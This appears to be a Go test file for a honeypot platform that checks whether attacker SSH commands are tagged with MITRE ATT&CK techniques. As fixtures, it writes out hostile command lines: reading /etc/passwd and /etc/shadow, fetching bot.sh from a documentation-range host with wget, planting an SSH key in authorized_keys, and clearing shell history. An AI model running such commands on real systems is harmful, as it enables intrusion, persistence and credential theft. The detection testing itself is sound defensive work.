package app

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	gossh "golang.org/x/crypto/ssh"

	"github.com/decnet/decnet/internal/bus"
	"github.com/decnet/decnet/internal/model"
	"github.com/decnet/decnet/internal/store"
	"github.com/decnet/decnet/internal/testenv"
	"github.com/decnet/decnet/internal/ttp"
)

// getList GETs an API path returning a JSON array.
func getList(t *testing.T, base, tok, path string) []map[string]any {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, base+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+tok)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %d %s", path, resp.StatusCode, raw)
	}
	var out []map[string]any
	if err := json.Unmarshal(raw, &out); err != nil {
		t.Fatalf("GET %s: %v in %s", path, err, raw)
	}
	return out
}

func TestAnSSHSessionIsTaggedWithATTACKTechniquesOnceWithEvidence(t *testing.T) {
	a, deckies := startDemo(t, "127.79.7.0/24")
	d := deckies["linux-server-01"]
	const src = "127.80.7.11"
	c, err := sshFrom(t, src, net.JoinHostPort(d.IP, "22"), &gossh.ClientConfig{
		User: "root", Auth: []gossh.AuthMethod{gossh.Password("admin")},
		HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	run(t, c, `cat /etc/passwd; wget http://198.51.100.7/bot.sh; chmod +x bot.sh; `+
		`echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali" >> ~/.ssh/authorized_keys; history -c`)
	c.Close()

	ctx := context.Background()
	s := a.Store()
	attacker := waitAttackerSettled(t, s, src)
	want := []string{"T1083", "T1105", "T1222", "T1098", "T1070"}
	var rollup []model.TechniqueRollup
	deadline := time.Now().Add(30 * time.Second)
	for {
		rollup, err = s.ListTechniquesByAttacker(ctx, attacker.UUID)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, r := range rollup {
			got = append(got, r.TechniqueID)
		}
		missing := slices.DeleteFunc(slices.Clone(want), func(id string) bool { return slices.Contains(got, id) })
		if len(missing) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("techniques %v never tagged; rollup %+v", missing, rollup)
		}
		time.Sleep(200 * time.Millisecond)
	}
	subs := map[string]bool{}
	for _, r := range rollup {
		subs[r.SubTechniqueID] = true
	}
	for _, sub := range []string{"T1098.004", "T1070.003"} {
		if !subs[sub] {
			t.Errorf("sub-technique %s missing from %+v", sub, rollup)
		}
	}

	// The rollup and the inspector through the API, with the command as
	// evidence.
	tok := login(t, a.APIURL(), "admin", testAdminPassword)
	rows := getList(t, a.APIURL(), tok, "/ttp/by-attacker/"+attacker.UUID)
	if len(rows) != len(rollup) {
		t.Errorf("API rollup has %d rows, store %d", len(rows), len(rollup))
	}
	tags := getList(t, a.APIURL(), tok, "/ttp/tags/by-attacker/"+attacker.UUID+"/T1105")
	if len(tags) == 0 {
		t.Fatal("inspector lists no T1105 tag")
	}
	ev, _ := tags[0]["evidence"].(map[string]any)
	if cmd, _ := ev["command_text"].(string); !strings.Contains(cmd, "wget http://198.51.100.7/bot.sh") ||
		tags[0]["source_kind"] != "command" || tags[0]["attacker_uuid"] != attacker.UUID {
		t.Errorf("inspector row %v", tags[0])
	}

	// Replaying the stored command events through the tagger adds nothing.
	before := countTags(t, s, attacker.UUID)
	res, err := ttp.Backfill(ctx, a.ttpStack.Tagger, s, s, s, ttp.BackfillOptions{Source: ttp.BackfillCommand})
	if err != nil {
		t.Fatal(err)
	}
	if res[0].Commands < 5 || res[0].Inserted != 0 || countTags(t, s, attacker.UUID) != before {
		t.Errorf("replay: %s; tags %d → %d, want no new rows", res[0], before, countTags(t, s, attacker.UUID))
	}
}

func countTags(t *testing.T, s store.TTPTagRepository, attacker string) int64 {
	t.Helper()
	rows, err := s.ListTechniquesByAttacker(context.Background(), attacker)
	if err != nil {
		t.Fatal(err)
	}
	var n int64
	for _, r := range rows {
		n += r.Count
	}
	return n
}

func TestStandaloneTTPWorkerTagsAStreamEventAndStopsOnControl(t *testing.T) {
	natsURL := os.Getenv("DECNET_TEST_NATS_URL")
	if natsURL == "" {
		testenv.Missing(t, "external NATS not configured: set DECNET_TEST_NATS_URL (e.g. nats://127.0.0.1:4222)")
		return
	}
	prefix := scratchNATSPrefix(t, natsURL)
	cfg := testConfig(t, map[string]string{"DECNET_NATS_URL": natsURL, "DECNET_NATS_PREFIX": prefix})
	ctx := context.Background()
	st, err := openStore(ctx, cfg, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if err := st.Migrate(ctx); err != nil {
		t.Fatal(err)
	}
	const ip = "203.0.113.78"
	attacker, err := st.UpsertAttacker(ctx, model.Attacker{IP: ip})
	if err != nil {
		t.Fatal(err)
	}
	// The stream exists before the worker starts: two clients creating it
	// at once can crash the nats-server 2.9 CI runs (see the bus tests).
	b, err := bus.Open(ctx, bus.Options{URL: natsURL, SubjectPrefix: prefix, Name: "test", Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	done := make(chan error, 1)
	go func() { done <- RunTTPWorker(ctx, cfg, slog.New(slog.DiscardHandler)) }()
	if err := b.PublishEvent(ctx, model.Event{ID: uuid.NewString(), TS: time.Now(), Decky: "decky-01", Service: "ssh",
		EventType: "command", SrcIP: ip, Fields: map[string]string{"command": "cat /etc/shadow"}}); err != nil {
		t.Fatal(err)
	}
	checkFor(t, 20*time.Second, func() error {
		rows, err := st.ListTechniquesByAttacker(ctx, attacker.UUID)
		if err != nil || len(rows) == 0 {
			return fmt.Errorf("no tags yet (%v)", err)
		}
		if rows[0].SubTechniqueID != "T1003.008" {
			return fmt.Errorf("tagged %+v, want T1003.008", rows)
		}
		return nil
	})
	ctl := bus.Control{Action: bus.ControlStop, RequestedBy: "test", TS: float64(time.Now().Unix())}
	if err := b.Publish(ctx, "system.ttp.control", bus.TypeControl, ctl); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("worker returned %v", err)
		}
	case <-time.After(15 * time.Second):
		t.Fatal("worker did not stop on system.ttp.control")
	}
}
